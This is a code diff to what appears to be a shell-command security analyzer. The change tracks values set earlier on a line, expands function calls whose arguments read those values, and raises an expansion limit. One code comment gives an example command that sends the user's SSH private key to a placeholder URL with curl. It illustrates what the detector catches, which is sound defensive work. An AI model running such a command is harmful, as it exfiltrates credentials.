@@ -16,7 +16,9 @@ import { newWrittenFiles, recordNested, recordWrites, writesFile, type FileMap, 
 import { fetchedStep, fetchedTree, TREE_COMMANDS, type FetchedTrees } from "./fetched-trees.js";
 import { codeWords } from "./run-target.js";
 import { DOWNLOADERS, downloadedFiles, downloadedTree, throughWrappers } from "./downloads.js";
-import { hasDefault, inherited, loopValues, newValues, noteValues, type KnownValues, type Piece } from "./known-values.js";
+import { newValues, noteValues, readsKnown, type KnownValues, type Piece } from "./known-values.js";
+import { hasDefault } from "./parameters.js";
+import { inherited, loopValues, settleLoops } from "./loop-values.js";
 import { withValues } from "./value-uses.js";
 import { xargsInput } from "./xargs-input.js";
 
@@ -27,7 +29,7 @@ interface FunctionDef {
 
 /** Bodies longer than this, or calls past this many per parse, are not expanded (the body was seen at its definition). */
 const MAX_BODY = 2048;
-const MAX_EXPANSIONS = 16;
+const MAX_EXPANSIONS = 64;
 /** A positional parameter: only a body using one can run something new at a call. */
 const POSITIONAL = /\$(?:\{?[@*1-9])/;
 
@@ -121,6 +123,7 @@ const quote = (s: string): string => (/^[\w@%+=:,./~-]+$/.test(s) ? s : `'${s.re
 export function lineCommand(sc: SimpleCommand, facts: Facts, state: LineState | null, origin: Origin, out: UnwrapResult, nest: Nest): LineState | null {
   // `k=~/.ssh/id_rsa; curl -F f=@$k URL`: a use of a value set earlier is parsed again with it.
   const defaults = hasDefault(sc);
+  if (state !== null && state.values !== null) settleLoops(state.values, sc, facts);
   const known = state !== null && state.values !== null ? state.values : defaults ? newValues(facts) : null;
   if (known !== null) withValues(sc, facts, known, origin, nest, out);
   const values = noteValues(sc, facts, state === null ? null : state.values, defaults);
@@ -155,8 +158,10 @@ export function lineCommand(sc: SimpleCommand, facts: Facts, state: LineState | 
   if (state !== null) {
     // A function is called by its own name (`sudo f` runs a program f, not the function).
     const fn = inner === sc ? state.functions.get(name) : undefined;
-    // Arguments all known only at run time tell nothing the definition did not: `f "$x"`.
-    if (fn !== undefined && sc.start >= fn.end && sc.argv.some((w, k) => k > 0 && w.dynamic === null) && state.expansions++ < MAX_EXPANSIONS) nest(withArguments(fn.body, sc.argv.slice(1), facts), range, null);
+    // Arguments all known only at run time tell nothing the definition did not: `f "$x"` (unless
+    // the line gave x a value).
+    const values = state.values;
+    if (fn !== undefined && sc.start >= fn.end && sc.argv.some((w, k) => k > 0 && (w.dynamic === null || (values !== null && readsKnown(w, values, sc)))) && state.expansions++ < MAX_EXPANSIONS) nest(withArguments(fn.body, sc.argv.slice(1), facts), range, null);
     const program = state.programs.size > 0 ? state.programs.get(norm(name)) ?? onPath(name, sc, state) : undefined;
     if (program === "") out.findings.push({ id: "shell/dynamic-command", message: `'${name}' is a copy of a program only known at run time; run the program by its own name.`, start: range[0], end: range[1] });
     else if (program !== undefined) nest(quote(program) + facts.source.slice(first.end, sc.end), range, null);
